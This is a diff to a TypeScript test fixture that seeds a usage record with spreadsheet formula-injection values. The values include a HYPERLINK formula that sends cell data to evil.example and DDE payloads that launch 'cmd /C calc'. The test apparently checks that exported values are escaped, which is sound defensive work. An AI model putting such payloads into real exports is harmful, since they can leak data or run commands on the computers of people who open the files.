@@ -50,7 +50,7 @@ const at = Date.now() - 3_600_000;
 // real record holds), seeded through the store API, as an upstream or a config could name them.
 const seeded: UsageRecord[] = [
   {
-    request_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', at, account: '@SUM(A1:A9)', key_id: '+cmd|\' /C calc\'!A0',
+    request_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', at, account: '@SUM(A1:A9)', key_id: '+cmd|\' /C calc\'!A0', team: null,
     model: '-2+3+cmd|\' /C calc\'!A0', provider: '\tprov', target: '\r=1', route: "'already quoted", status: -1,
     prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0,
   },
